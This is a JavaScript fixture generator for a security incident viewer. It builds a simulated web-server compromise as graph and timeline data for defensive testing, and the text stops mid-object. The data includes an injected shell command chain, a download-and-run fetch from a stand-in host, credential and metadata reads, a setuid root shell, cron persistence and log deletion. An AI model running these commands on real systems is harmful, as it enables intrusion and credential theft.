// Writes testdata/*.json: answers of the API as the page receives them, for tests and for
// working on the page without a server. Everything is derived from fixed numbers, so running it
// again gives the same bytes.
import { mkdirSync, writeFileSync } from "node:fs";

const out = new URL("../testdata/", import.meta.url);
mkdirSync(out, { recursive: true });
const write = (name, value) => writeFileSync(new URL(name, out), `${JSON.stringify(value, null, 1)}\n`);

const day = Date.UTC(2026, 10, 21, 20, 55, 2);
/** at gives a time of the story, `s` seconds after its start, with nanoseconds. */
const at = (s) => {
  const ms = day + Math.round(s * 1000);
  const ns = String((Math.round(s * 1e6) * 137) % 1_000_000).padStart(6, "0");
  return new Date(ms).toISOString().replace("Z", `${ns}Z`);
};

function node(id, kind, laneId, treeParentId, order, label, sublabel, s, more = {}) {
  return {
    id,
    kind,
    of: "",
    laneId,
    treeParentId: treeParentId ?? "",
    order,
    label,
    sublabel,
    severity: "",
    role: "",
    state: "",
    stateAt: null,
    count: 1,
    firstSeen: at(s),
    lastSeen: at(more.until ?? s),
    flags: [],
    signals: { count: 0, max: "" },
    did: null,
    children: null,
    varies: [],
    samples: [],
    path: [],
    expandToken: "",
    contextKeys: [],
    why: [],
    images: [],
    foldReason: kind === "group" ? "same_signature" : "",
    members: [],
    ref: { type: kind, id },
    ...more,
    attributes: Object.entries(more.attributes ?? {}).map(([field, value]) => ({
      field,
      label: field,
      value,
    })),
  };
}

const web = "request_5f0c1a44-90e2-4a0b-8d0e-7a1f7be5a001";
const shell = "shell_7b1e22c0-1f7d-4c55-9b1a-0d6f1f4f2c12";
const cron = "cron_9c3fd1aa-6a51-47ce-8a2e-2f9be0aa7703";
const taint = "tainted_b2a911f0-35d8-4c11-b8a7-cc2f7fd0f5e4";

const proc = (pid, more) => ({
  "process.pid": String(pid),
  ...more,
});

const nodes = [
  node("n_actor", "actor", "l_c1", "", 0, "203.0.113.7", "outside · :51234", 0.113, {
    role: "entry",
    severity: "",
    until: 188.2,
    attributes: { "network.source.ip": "203.0.113.7", "network.source.port": "51234" },
  }),
  node("p_httpd", "process", "l_c1", "n_actor", 0, "httpd", "pid 812 · www-data", 0.113, {
    role: "spine",
    until: 190,
    state: "alive",
    stateAt: at(237),
    contextKeys: [web],
    did: { file: 21, network: 9, dns: 0, child: 44, module: 0 },
    attributes: proc(812, {
      "process.ppid": "790",
      "process.file.path": "/usr/local/bin/httpd",
      "process.args": "httpd --listen :8080 --root /srv/www",
      "process.user": "www-data",
      "process.cwd": "/srv/www",
    }),
  }),
  node(
    "p_sh",
    "process",
    "l_c1",
    "p_httpd",
    0,
    'sh -c "ping 127.0.0.1;id;…"',
    "pid 31330 · www-data",
    0.377,
    {
      role: "spine",
      severity: "high",
      until: 74.019,
      state: "ended",
      stateAt: at(74.019),
      signals: { count: 1, max: "high" },
      contextKeys: [web, shell],
      did: { file: 4, network: 0, dns: 0, child: 44, module: 0 },
      attributes: proc(31330, {
        "process.ppid": "812",
        "process.file.path": "/usr/bin/dash",
        "process.args": 'sh -c "ping -c1 127.0.0.1;id;uname -a;ps aux"',
        "process.user": "www-data",
        "process.cwd": "/srv/www",
        "process.exit.code": "0",
      }),
    },
  ),
  node("p_upd", "process", "l_c1", "p_sh", 6, "updater", "pid 31360 · www-data → root", 41.2, {
    role: "spine",
    severity: "critical",
    until: 188.88,
    state: "ended",
    stateAt: at(188.88),
    flags: ["user_changed"],
    why: [
      "wrote a cron entry",
      "ran from a file its own context wrote",
      "read cloud credentials",
      "asked the metadata service",
      "set a setuid bit",
      "user changed www-data → root",
    ],
    images: [
      {
        at: at(41.19),
        path: "/usr/bin/dash",
        commandLine: 'sh -c "ping -c1 127.0.0.1;id;…"',
        user: "www-data",
      },
      {
        at: at(41.2),
        path: "/srv/www/.cache/updater",
        commandLine: "/srv/www/.cache/updater --quiet",
        user: "www-data",
      },
    ],
    signals: { count: 6, max: "critical" },
    contextKeys: [web, shell],
    did: { file: 31, network: 3, dns: 2, child: 2, module: 0 },
    attributes: proc(31360, {
      "process.ppid": "31330",
      "process.file.path": "/srv/www/.cache/updater",
      "process.file.hashes": "sha256:9f2c41d0c6a1b4e87f0d6a8e13b7a1f4c2d4a9b0e5f6c7d8a9b0c1d2e3f4a5e1",
      "process.args": "/srv/www/.cache/updater --quiet",
      "process.user": "root",
      "process.cwd": "/tmp",
      "process.cap_effective": "CAP_SETUID CAP_DAC_OVERRIDE",
    }),
  }),
  node("f_cron", "file", "l_c1", "p_upd", 4, "/etc/cron.d/updater", "created · 0644 root", 69.502, {
    role: "impact",
    severity: "critical",
    why: ["cron entry written", "cron ran it as root 50 s later"],
    signals: { count: 1, max: "critical" },
    attributes: { "file.path": "/etc/cron.d/updater", "file.mode": "0644", "file.user": "root" },
  }),
  node("f_cred", "file", "l_c1", "p_upd", 0, "/srv/www/.aws/credentials", "read", 44.1, {
    severity: "high",
    signals: { count: 1, max: "high" },
    attributes: { "file.path": "/srv/www/.aws/credentials", "file.mode": "0600", "file.user": "www-data" },
  }),
  node("e_meta", "endpoint", "l_c1", "p_upd", 1, "169.254.169.254:80", "cloud metadata", 47.0, {
    severity: "high",
    count: 2,
    until: 47.4,
    signals: { count: 1, max: "high" },
    attributes: { "network.destination.ip": "169.254.169.254", "network.destination.port": "80" },
  }),
  node("f_suid", "file", "l_c1", "p_upd", 2, "/srv/www/.cache/rootsh", "chmod u+s · 4755 root", 55.8, {
    severity: "high",
    signals: { count: 1, max: "high" },
    attributes: { "file.path": "/srv/www/.cache/rootsh", "file.mode": "4755", "file.user": "root" },
  }),
  node("f_shadow", "file", "l_c1", "p_upd", 3, "/etc/shadow", "open refused", 58.02, {
    severity: "medium",
    signals: { count: 1, max: "medium" },
    attributes: { "file.path": "/etc/shadow", "open.retval": "-13 (EACCES)" },
  }),
  node("g_read", "group", "l_c1", "p_upd", 5, "/srv/www/conf/*.ini read", "", 60.1, {
    of: "file",
    count: 14,
    until: 63.7,
    varies: ["file.name"],
    samples: ["shop.ini", "db.ini", "mail.ini"],
    expandToken: "g_read",
  }),
  node("p_rm", "process", "l_c1", "p_upd", 7, "rm -f .bash_history", "pid 31377 · root", 176.3, {
    severity: "medium",
    until: 176.31,
    state: "ended",
    stateAt: at(176.31),
    signals: { count: 1, max: "medium" },
    contextKeys: [web, shell],
    attributes: proc(31377, {
      "process.file.path": "/usr/bin/rm",
      "process.args": "rm -f /srv/www/.bash_history /var/log/httpd/access.log",
      "process.user": "root",
    }),
  }),
  node("f_hist", "file", "l_c1", "p_rm", 0, "/srv/www/.bash_history", "removed", 176.302, {
    severity: "medium",
    attributes: { "file.path": "/srv/www/.bash_history" },
  }),
  node("f_log", "file", "l_c1", "p_rm", 1, "/var/log/httpd/access.log", "removed", 176.304, {
    severity: "low",
    attributes: { "file.path": "/var/log/httpd/access.log" },
  }),
  node("p_id", "process", "l_c1", "p_sh", 0, "id", "pid 31331", 0.402, {
    until: 0.404,
    state: "ended",
    stateAt: at(0.404),
    severity: "low",
    signals: { count: 1, max: "low" },
    contextKeys: [web, shell],
    attributes: proc(31331, { "process.file.path": "/usr/bin/id", "process.args": "id" }),
  }),
  node("g_disc", "group", "l_c1", "p_sh", 1, "uname, ps, ss, df", "", 0.6, {
    of: "process",
    count: 4,
    until: 3.9,
    severity: "low",
    varies: ["exe"],
    samples: ["uname -a", "ps aux", "ss -tln", "df -h"],
    expandToken: "g_disc",
    state: "ended",
    stateAt: at(3.9),
  }),
  node(
    "p_fetch",
    "process",
    "l_c1",
    "p_sh",
    2,
    "fetch -o .cache/updater http://198.51.100.23/u",
    "pid 31342 · www-data",
    22.9,
    {
      severity: "high",
      until: 24.2,
      state: "ended",
      stateAt: at(24.2),
      signals: { count: 1, max: "high" },
      contextKeys: [web, shell],
      did: { file: 1, network: 1, dns: 0, child: 0, module: 0 },
      attributes: proc(31342, {
        "process.file.path": "/usr/bin/fetch",
        "process.args": "fetch -o /srv/www/.cache/updater http://198.51.100.23/u",
      }),
    },
  ),
  node("e_cdn", "endpoint", "l_c1", "p_fetch", 0, "198.51.100.23:80", "outside", 23.01, {
    severity: "low",
    attributes: { "network.destination.ip": "198.51.100.23", "network.destination.port": "80" },
  }),
  node("f_upd", "file", "l_c1", "p_fetch", 1, "/srv/www/.cache/updater", "created · chmod +x", 24.1, {
    severity: "high",
    signals: { count: 1, max: "high" },
    attributes: {
      "file.path": "/srv/www/.cache/updater",
      "file.mode": "0755",
      "file.user": "www-data",
      "file.hashes": "sha256:9f2c41d0c6a1b4e87f0d6a8e13b7a1f4c2d4a9b0e5f6c7d8a9b0c1d2e3f4a5e1",
    },
  }),
  node("p_chmod", "process", "l_c1", "p_sh", 4, "chmod +x .cache/updater", "pid 31351", 30.02, {
    until: 30.022,
    state: "ended",
    stateAt: at(30.022),
    contextKeys: [web, shell],
    attributes: proc(31351, { "process.file.path": "/usr/bin/chmod" }),
  }),
  node("g_sleep", "group", "l_c1", "p_sh", 5, "sleep {n}", "", 7.871, {
    of: "process",
    count: 37,
    until: 70.3,
    varies: ["args[1]", "pid"],
    samples: ["sleep 1", "sleep 2", "sleep 5"],
    expandToken: "g_sleep",
    state: "ended",
    stateAt: at(70.3),
  }),
  node("a_1", "ancestors", "l_c1", "", 1, "3 ancestors", "", -40, {
    count: 3,
    path: ["systemd", "containerd-shim", "httpd"],
    expandToken: "a_1",
  }),
  node("p_crond", "process", "l_h1", "", 0, "cron", "pid 640 · root", -3600, {
    until: 180.0,
    state: "alive",
    stateAt: at(237),
    attributes: proc(640, {
      "process.file.path": "/usr/sbin/cron",
      "process.args": "/usr/sbin/cron -f",
      "process.user": "root",
    }),
  }),
  node(
    "p_csh",
    "process",
    "l_h1",
    "p_crond",
    0,
    'sh -c "/srv/www/.cache/updater --beacon"',
    "pid 40102 · root",
    119.02,
    {
      severity: "high",
      until: 181,
      signals: { count: 1, max: "high" },
      state: "ended",
      stateAt: at(181),
      contextKeys: [cron, taint],
      attributes: proc(40102, {
        "process.file.path": "/usr/bin/dash",
        "process.args": 'sh -c "/srv/www/.cache/updater --beacon"',
        "process.user": "root",
      }),
    },
  ),
  node("p_beacon", "process", "l_h1", "p_csh", 0, "updater --beacon", "pid 40103 · root", 119.04, {
    severity: "critical",
    until: 180.9,
    signals: { count: 2, max: "critical" },
    state: "alive",
    stateAt: at(237),
    contextKeys: [cron, taint],
    did: { file: 2, network: 12, dns: 1, child: 0, module: 0 },
    attributes: proc(40103, {
      "process.file.path": "/srv/www/.cache/updater",
      "process.args": "/srv/www/.cache/updater --beacon",
      "process.user": "root",
    }),
  }),
  node("e_c2", "endpoint", "l_h1", "p_beacon", 0, "198.51.100.23:443", "outside", 119.3, {
    severity: "high",
    count: 12,
    until: 180.2,
    signals: { count: 1, max: "high" },
    attributes: { "network.destination.ip": "198.51.100.23", "network.destination.port": "443" },
  }),
  node("f_keys", "file", "l_h1", "p_beacon", 1, "/root/.ssh/authorized_keys", "modified", 131.4, {
    severity: "high",
    signals: { count: 1, max: "high" },
    attributes: { "file.path": "/root/.ssh/authorized_keys", "file.mode": "0600" },
  }),
];

// The members that unfolding puts in the place of their fold.
const members = {
  g_disc: [
    ["uname -a", 0.6],
    ["ps aux", 1.2],
    ["ss -tln", 2.4],
    ["df -h", 3.9],
  ].map(([label, s], i) =>
    node(`m_disc${i}`, "process", "l_c1", "p_sh", 1 + i / 10, label, `pid ${31332 + i}`, s, {
      severity: "low",
      state: "ended",
      stateAt: at(s + 0.01),
      attributes: proc(31332 + i, { "process.args": label }),
    }),
  ),
  g_read: Array.from({ length: 14 }, (_, i) =>
    node(
      `m_read${i}`,
      "file",
      "l_c1",
      "p_upd",
      5 + i / 20,
      `/srv/www/conf/part${i}.ini`,
      "",
      60.1 + i * 0.2,
      { attributes: { "file.path": `/srv/www/conf/part${i}.ini` } },
    ),
  ),
  g_sleep: Array.from({ length: 37 }, (_, i) =>
    node(
      `m_sleep${i}`,
      "process",
      "l_c1",
      "p_sh",
      5 + i / 50,
      `sleep ${1 + (i % 5)}`,
      `pid ${31400 + i}`,
      7.871 + i * 1.7,
      {
        state: "ended",
        stateAt: at(8 + i * 1.7),
        attributes: proc(31400 + i, { "process.args": `sleep ${1 + (i % 5)}` }),
      },
    ),
  ),
  a_1: ["systemd", "containerd-shim", "httpd-wrapper"].map((label, i) =>
    node(
      `m_anc${i}`,
      "process",
      "l_c1",
      i === 0 ? "" : `m_anc${i - 1}`,
      i === 0 ? 1 : 0,
      label,
      `pid ${[1, 741, 790][i]} · root`,
      -3600 + i * 1000,
      { state: "alive", stateAt: at(237), attributes: proc([1, 741, 790][i], {}) },
    ),
  ),
};

let edgeNumber = 0;
const edge = (kind, source, target, label, s, more = {}) => ({
  id: `e_${++edgeNumber}`,
  kind,
  source,
  target,
  tree: true,
  role: "",
  severity: "",
  count: 1,
  ops: { [label]: 1 },
  label,
  firstSeen: at(s),
  lastSeen: at(more.until ?? s),
  refused: false,
  link: null,
  eventIds: [`ev_${String(edgeNumber).padStart(6, "0")}`],
  ...more,
});

const edges = [
  edge("network", "n_actor", "p_httpd", "accept", 0.113, { role: "spine", count: 3, severity: "medium" }),
  edge("spawn", "p_httpd", "p_sh", "exec", 0.377, { role: "spine", severity: "high" }),
  edge("spawn", "p_sh", "p_upd", "exec", 41.2, { role: "spine", severity: "critical" }),
  edge("write", "p_upd", "f_cron", "create", 69.502, {
    role: "spine",
    severity: "critical",
    ops: { create: 1, write: 2 },
  }),
  edge("read", "p_upd", "f_cred", "read", 44.1, { severity: "high" }),
  edge("network", "p_upd", "e_meta", "connect", 47, { severity: "high", count: 2 }),
  edge("write", "p_upd", "f_suid", "chmod", 55.8, { severity: "high" }),
  edge("read", "p_upd", "f_shadow", "open", 58.02, { severity: "medium", refused: true }),
  edge("read", "p_upd", "g_read", "read", 60.1, { count: 14, until: 63.7 }),
  edge("spawn", "p_upd", "p_rm", "exec", 176.3, { severity: "medium" }),
  edge("write", "p_rm", "f_hist", "unlink", 176.302, { severity: "medium" }),
  edge("write", "p_rm", "f_log", "unlink", 176.304, { severity: "low" }),
  edge("spawn", "p_sh", "p_id", "exec", 0.402, { severity: "low" }),
  edge("spawn", "p_sh", "g_disc", "exec", 0.6, { count: 4, severity: "low" }),
  edge("spawn", "p_sh", "p_fetch", "exec", 22.9, { severity: "high" }),
  edge("network", "p_fetch", "e_cdn", "connect", 23.01, { severity: "low" }),
  edge("write", "p_fetch", "f_upd", "create", 24.1, { severity: "high" }),
  edge("spawn", "p_sh", "p_chmod", "exec", 30.02),
  edge("spawn", "p_sh", "g_sleep", "exec", 7.871, { count: 37, until: 70.3 }),
  edge("spawn", "p_crond", "p_csh", "exec", 119.02, { severity: "high" }),
  edge("spawn", "p_csh", "p_beacon", "exec", 119.04, { severity: "critical" }),
  edge("network", "p_beacon", "e_c2", "connect", 119.3, { severity: "high", count: 12, until: 180.2 }),
  edge("write", "p_beacon", "f_keys", "write", 131.4, { severity: "high" }),
  edge("write", "p_chmod", "f_upd", "chmod", 30.02, { tree: false }),
  edge("execute_file", "f_upd", "p_upd", "executed", 41.2, {
    tree: false,
    severity: "high",
    link: {
      type: "dropped_file_ran",
      weight: 0.95,
      reason: "updater 31360 executes /srv/www/.cache/updater, written by fetch 31342",
      expires: at(604800),
    },
  }),
  edge("execute_file", "f_cron", "p_csh", "ran by cron", 119.02, {
    tree: false,
    severity: "critical",
    link: {
      type: "cron_entry_ran",
      weight: 0.9,
      reason: "cron ran a line of /etc/cron.d/updater, written by updater 31360 through a host mount",
      expires: at(604800),
    },
  }),
];

const memberEdges = Object.fromEntries(
  Object.entries(members).map(([id, list]) => [
    id,
    list
      .filter((m) => m.treeParentId)
      .map((m) =>
        edge(
          m.kind === "file" ? "read" : "spawn",
          m.treeParentId,
          m.id,
          m.kind === "file" ? "read" : "exec",
          1,
          { firstSeen: m.firstSeen, lastSeen: m.lastSeen },
        ),
      ),
  ]),
);

const lanes = [
  {
    id: "l_h1",
    parentId: "",
    kind: "host",
    label: "web-01",
    sublabel: "Debian 12 · 6.1",
    state: "alive",
    stateAt: at(237),
    order: 0,
    ref: { type: "host", id: "h1" },
  },
  {
    id: "l_c1",
    parentId: "l_h1",
    kind: "container",
    label: "shop",
    sublabel: "shop/httpd:1.25",
    state: "ended",
    stateAt: at(190),
    order: 0,
    ref: { type: "container", id: "8f1e" },
  },
];

const gaps = [
  {
    laneId: "l_h1",
    from: at(98),
    to: at(101),
    lost: "214",
    reason: "ring_full_bulk",
    kinds: ["file"],
    text: "214 events lost on web-01 (bulk ring full)",
  },
];

const span = (t, node, lane) => ({ t, node: node ?? "", lane: lane ?? "" });
const technique = (id, name, tactic) => ({ id, name, tactic });
let itemNumber = 0;
const item = (s, kind, severity, text, more = {}) => ({
  id: `tl_${++itemNumber}`,
  at: s === null ? null : at(s),
  until: more.untilS ? at(more.untilS) : null,
  kind,
  severity,
  text,
  count: 1,
  rule: null,
  techniques: [],
  context: null,
  laneId: "l_c1",
  nodeIds: text.filter((x) => x.node).map((x) => x.node),
  edgeIds: [],
  eventIds: [`ev_${String(900 + itemNumber)}`],
  links: [],
  actions: [],
  members: [],
  ...more,
});
const rule = (id, name) => ({ id, name, version: "1" });
const cx = { key: shell, layer: "spawned_shell", entity: "httpd" };

const items = [
  item(
    0.113,
    "event",
    "",
    [span("httpd", "p_httpd"), span(" accepted "), span("203.0.113.7:51234", "n_actor")],
    { context: { key: web, layer: "web_request", entity: "203.0.113.7" } },
  ),
  item(
    0.377,
    "signal",
    "high",
    [span("httpd", "p_httpd"), span(" started "), span('sh -c "ping 127.0.0.1;id;…"', "p_sh")],
    {
      rule: rule("shell_below_web_server", "Shell below a web server"),
      techniques: [technique("T1059.004", "Unix Shell", "execution")],
      context: cx,
    },
  ),
  item(0.402, "signal", "low", [span("sh", "p_sh"), span(" ran "), span("id", "p_id")], {
    rule: rule("account_discovery", "Account discovery"),
    techniques: [technique("T1033", "System Owner/User Discovery", "discovery")],
    context: cx,
  }),
  item(0.6, "event", "", [span("sh", "p_sh"), span(" ran "), span("uname, ps, ss, df", "g_disc")], {
    count: 4,
    untilS: 3.9,
    context: cx,
  }),
  item(7.871, "event", "", [span("sh", "p_sh"), span(" ran "), span("sleep {n}", "g_sleep")], {
    count: 37,
    untilS: 70.3,
    context: cx,
  }),
  item(22.9, "event", "", [span("sh", "p_sh"), span(" ran "), span("fetch", "p_fetch")], { context: cx }),
  item(
    23.01,
    "event",
    "",
    [span("fetch", "p_fetch"), span(" connected to "), span("198.51.100.23:80", "e_cdn")],
    { context: cx },
  ),
  item(
    24.1,
    "signal",
    "high",
    [span("fetch", "p_fetch"), span(" wrote "), span("/srv/www/.cache/updater", "f_upd")],
    {
      rule: rule("download_below_web_root", "Executable downloaded below a web root"),
      techniques: [technique("T1105", "Ingress Tool Transfer", "command-and-control")],
      context: cx,
    },
  ),
  item(
    41.2,
    "signal",
    "critical",
    [span("sh", "p_sh"), span(" executed "), span("updater", "p_upd"), span(", a file it downloaded")],
    {
      nodeIds: ["p_sh", "p_upd", "f_upd"],
      rule: rule("dropped_file_executed", "File written in this context was executed"),
      techniques: [technique("T1204.002", "Malicious File", "execution")],
      context: cx,
    },
  ),
  item(
    44.1,
    "signal",
    "high",
    [span("updater", "p_upd"), span(" read "), span("/srv/www/.aws/credentials", "f_cred")],
    {
      rule: rule("cloud_credentials_read", "Cloud credentials read by an unusual program"),
      techniques: [technique("T1552.001", "Credentials In Files", "credential-access")],
      context: cx,
    },
  ),
  item(
    47.0,
    "signal",
    "high",
    [span("updater", "p_upd"), span(" asked the metadata service "), span("169.254.169.254", "e_meta")],
    {
      count: 2,
      untilS: 47.4,
      rule: rule("metadata_service", "Metadata service asked by a new program"),
      techniques: [technique("T1552.005", "Cloud Instance Metadata API", "credential-access")],
      context: cx,
    },
  ),
  item(
    55.8,
    "signal",
    "high",
    [span("updater", "p_upd"), span(" set the setuid bit of "), span("/srv/www/.cache/rootsh", "f_suid")],
    {
      rule: rule("setuid_bit_set", "Setuid bit set below a web root"),
      techniques: [technique("T1548.001", "Setuid and Setgid", "privilege-escalation")],
      context: cx,
    },
  ),
  item(
    58.02,
    "signal",
    "medium",
    [span("updater", "p_upd"), span(" was refused "), span("/etc/shadow", "f_shadow")],
    {
      rule: rule("shadow_read", "Read of the password database"),
      techniques: [technique("T1003.008", "/etc/passwd and /etc/shadow", "credential-access")],
      context: cx,
    },
  ),
  item(60.1, "event", "", [span("updater", "p_upd"), span(" read "), span("/srv/www/conf/*.ini", "g_read")], {
    count: 14,
    untilS: 63.7,
    context: cx,
  }),
  item(
    69.502,
    "signal",
    "critical",
    [span("updater", "p_upd"), span(" wrote "), span("/etc/cron.d/updater", "f_cron")],
    {
      rule: rule("cron_write", "Cron entry written"),
      techniques: [technique("T1053.003", "Cron", "persistence")],
      context: cx,
      laneId: "l_h1",
    },
  ),
  item(74.019, "state", "", [span('sh -c "ping 127.0.0.1;id;…"', "p_sh"), span(" ended (exit 0)")], {
    context: cx,
  }),
  item(98, "gap", "medium", [span("214 events lost on web-01 (bulk ring full)")], {
    untilS: 101,
    laneId: "l_h1",
    nodeIds: ["p_upd", "p_crond"],
    lost: "214",
  }),
  item(
    119.02,
    "signal",
    "high",
    [
      span("cron", "p_crond"),
      span(" ran a line of "),
      span("/etc/cron.d/updater", "f_cron"),
      span(" as "),
      span("root", "p_csh"),
    ],
    {
      rule: rule("cron_runs_new_entry", "Cron runs an entry written in a hot context"),
      techniques: [technique("T1053.003", "Cron", "persistence")],
      context: { key: taint, layer: "tainted", entity: "/etc/cron.d/updater" },
      laneId: "l_h1",
    },
  ),
  item(
    119.04,
    "signal",
    "critical",
    [span("sh", "p_csh"), span(" executed "), span("updater --beacon", "p_beacon"), span(" as root")],
    {
      rule: rule("dropped_file_executed", "File written in this context was executed"),
      techniques: [technique("T1204.002", "Malicious File", "execution")],
      context: { key: taint, layer: "tainted", entity: "/etc/cron.d/updater" },
      laneId: "l_h1",
    },
  ),
  item(
    119.3,
    "signal",
    "high",
    [span("updater --beacon", "p_beacon"), span(" connected to "), span("198.51.100.23:443", "e_c2")],
    {
      count: 12,
      untilS: 180.2,
      rule: rule("beacon", "Regular connections to one address"),
      techniques: [technique("T1071.001", "Web Protocols", "command-and-control")],
      context: { key: taint, layer: "tainted", entity: "/etc/cron.d/updater" },
      laneId: "l_h1",
    },
  ),
  item(
    131.4,
    "signal",
    "high",
    [span("updater --beacon", "p_beacon"), span(" changed "), span("/root/.ssh/authorized_keys", "f_keys")],
    {
      rule: rule("authorized_keys", "SSH keys changed"),
      techniques: [technique("T1098.004", "SSH Authorized Keys", "persistence")],
      context: { key: taint, layer: "tainted", entity: "/etc/cron.d/updater" },
      laneId: "l_h1",
    },
  ),
  item(
    176.302,
    "signal",
    "medium",
    [span("rm", "p_rm"), span(" removed "), span("/srv/www/.bash_history", "f_hist")],
    {
      rule: rule("history_removed", "Shell history removed"),
      techniques: [technique("T1070.003", "Clear Command History", "defense-evasion")],
      context: cx,
    },
  ),
  item(
    176.304,
    "event",
    "",
    [span("rm", "p_rm"), span(" removed "), span("/var/log/httpd/access.log", "f_log")],
    { context: cx },
  ),
  item(188.88, "state", "", [span("updater", "p_upd"), span(" ended (exit 0)")], { context: cx }),
  item(190, "state", "", [span("container shop ended (exit 137)")], { nodeIds: [] }),
  item(
    null,
    "action",
    "",
    [span("Remove /etc/cron.d/updater: cron on web-01 runs it every minute", "f_cron")],
    {},
  ),
];

const buckets = [];
for (let i = 0; i < 64; i++) {
  const from = i * 3;
  const inside = items.filter(
    (x) =>
      x.at &&
      x.kind === "signal" &&
      Date.parse(x.at) >= day + from * 1000 &&
      Date.parse(x.at) < day + (from + 3) * 1000,
  );
  const signals = {};
  for (const x of inside) signals[x.severity] = (signals[x.severity] ?? 0) + 1;
  const wave = Math.round(
    18 +
      14 * Math.sin(i / 2.3) +
      ((i * 29) % 17) +
      inside.length * 90 +
      (i < 3 ? 150 : 0) +
      (i > 18 && i < 25 ? 70 : 0),
  );
  buckets.push({
    at: new Date(day + from * 1000).toISOString(),
    events: String(wave),
    signals,
    lost: i === 32 ? "214" : "0",
  });
}
const events = buckets.reduce((sum, b) => sum + Number(b.events), 0);

const signals = items
  .filter((x) => x.kind === "signal")
  .map((x) => ({
    eventId: x.eventIds[0],
    at: x.at,
    ruleId: x.rule.id,
    title: x.rule.name,
    type: "process",
    severity: x.severity,
    techniques: x.techniques,
    contextKey: x.context?.key ?? "",
    nodeIds: x.nodeIds,
    text: x.text,
    kind: "exec",
    policy: "clew",
    version: "1",
    suppressed: "0",
  }));

const where = { hosts: ["web-01"], containers: ["shop"], users: ["www-data", "root"] };
const tactics = [
  ["TA0001", "Initial access", 0.113],
  ["TA0002", "Execution", 0.377],
  ["TA0007", "Discovery", 0.402],
  ["TA0011", "Command and control", 24.1],
  ["TA0006", "Credential access", 44.1],
  ["TA0004", "Privilege escalation", 55.8],
  ["TA0003", "Persistence", 69.502],
  ["TA0005", "Defense evasion", 176.302],
].map(([id, name, s]) => ({ id, name, at: at(s) }));

const story = {
  id: "st_9k2m41qvd7a0",
  version: "1731",
  asOf: at(237),
  title: "Shell from httpd ran a downloaded program, read credentials and wrote a cron job",
  sentence: [
    span("203.0.113.7", "n_actor"),
    span(" made "),
    span("httpd", "p_httpd"),
    span(" start "),
    span("a shell", "p_sh"),
    span(" in container "),
    span("shop", "", "l_c1"),
    span("; it "),
    span("downloaded", "f_upd"),
    span(" and ran "),
    span("updater", "p_upd"),
    span(", which "),
    span("read cloud credentials", "f_cred"),
    span(", "),
    span("asked the metadata service", "e_meta"),
    span(", "),
    span("set a setuid bit", "f_suid"),
    span(" and "),
    span("wrote /etc/cron.d/updater", "f_cron"),
    span("; "),
    span("cron ran it as root", "p_csh"),
    span("."),
  ],
  score: 87,
  severity: "critical",
  scoreParts: [
    {
      points: 34,
      text: "eight tactics, six of them in order of an attack",
      entryIds: ["tl_2", "tl_8", "tl_10", "tl_12", "tl_15"],
    },
    {
      points: 28,
      text: "critical signals: a dropped file was executed, cron entry written",
      entryIds: ["tl_9", "tl_15", "tl_19"],
    },
    {
      points: 18,
      text: "rare: /srv/www/.cache/updater was never seen before on 12 hosts",
      entryIds: ["tl_9"],
    },
    { points: 11, text: "crosses contexts: from a web request to a cron job as root", entryIds: ["tl_18"] },
    { points: -4, text: "the host is tagged staging", entryIds: [] },
  ],
  state: "open",
  verdict: "unset",
  assignee: "",
  recording: true,
  redirects: [],
  activity: [],
  firstSeen: at(0.113),
  lastSeen: at(190),
  active: true,
  counts: {
    events: String(events),
    signals: String(signals.length),
    hosts: "1",
    containers: "1",
    processes: "91",
    lost: "214",
  },
  tactics,
  where,
  contexts: [
    {
      key: web,
      layer: "web_request",
      priority: 65,
      entity: "203.0.113.7 → :8080",
      openedBy: "ev_901",
      reason: "httpd accepted a connection from outside and started a program within 30 s",
      parentKey: "",
      signals: 0,
    },
    {
      key: shell,
      layer: "spawned_shell",
      priority: 60,
      entity: "httpd",
      openedBy: "ev_902",
      reason: "a shell below a web server",
      parentKey: web,
      signals: 11,
    },
    {
      key: cron,
      layer: "cron_job",
      priority: 35,
      entity: "root · /etc/cron.d/updater",
      openedBy: "ev_918",
      reason: "child of cron",
      parentKey: "",
      signals: 0,
    },
    {
      key: taint,
      layer: "tainted",
      priority: 78,
      entity: "/etc/cron.d/updater",
      openedBy: "ev_918",
      reason: "runs a line of a file that a hot context wrote",
      parentKey: cron,
      signals: 4,
    },
  ],
  links: [
    {
      type: "cron_entry_ran",
      weight: 0.9,
      reason: "cron ran a line of /etc/cron.d/updater, written by updater 31360",
      fromContext: shell,
      toContext: taint,
    },
    {
      type: "parent_key",
      weight: 1,
      reason: "the shell was opened inside the web request",
      fromContext: web,
      toContext: shell,
    },
  ],
  gaps,
  recommended: [
    {
      id: "remove_file",
      label: "Remove /etc/cron.d/updater",
      why: "cron on web-01 runs it every minute",
      targets: ["f_cron"],
      permission: "response.execute",
      reversible: true,
    },
    {
      id: "kill_process",
      label: "Kill updater --beacon (40103)",
      why: "it still talks to 198.51.100.23:443 as root",
      targets: ["p_beacon"],
      permission: "response.execute",
      reversible: false,
    },
    {
      id: "rotate_keys",
      label: "Rotate the keys in /srv/www/.aws/credentials",
      why: "updater read them and asked the metadata service",
      targets: ["f_cred"],
      permission: "",
      reversible: false,
    },
  ],
  signals,
  graph: {
    storyId: "st_9k2m41qvd7a0",
    version: "1731",
    asOf: at(237),
    range: { from: at(0.113), to: at(190) },
    totals: { events: String(events), nodes: "91", edges: "97" },
    shown: { nodes: nodes.length, edges: edges.length },
    hidden: [{ reason: "folded", kind: "", nodes: 91 - nodes.length }],
    legend: { nodes: {}, edges: {} },
    entryId: "n_actor",
    impactIds: ["f_cron", "f_cred"],
    gaps,
    lanes,
    nodes,
    edges,
  },
  timeline: {
    items,
    histogram: { bucketMs: "3000", buckets },
    counts: Object.fromEntries(
      ["signal", "event", "state", "gap", "action"].map((k) => [k, items.filter((x) => x.kind === k).length]),
    ),
  },
};
write("story.json", { story });

// What stands in the place of a fold once it is open.
write("folds.json", { members, memberEdges });

const summary = (s, spark) => {
  const { links, graph, timeline, signals: _s, contexts, recommended, gaps: _g, ...rest } = s;
  return { ...rest, spark };
};
const other = (id, score, severity, title, sentence, ago, state, sig, tac, host, more = {}) => ({
  ...summary(story, []),
  id,
  score,
  severity,
  title,
  sentence: [span(sentence)],
  scoreParts: [],
  state,
  firstSeen: new Date(day - ago * 1000 - 60_000).toISOString(),
  lastSeen: new Date(day - ago * 1000).toISOString(),
  active: false,
  counts: {
    events: String(sig * 37),
    signals: String(sig),
    hosts: "1",
    containers: "0",
    processes: String(sig * 4),
    lost: "0",
  },
  tactics: tactics.filter((t) => tac.includes(t.name)),
  where: { ...where, hosts: [host], containers: [] },
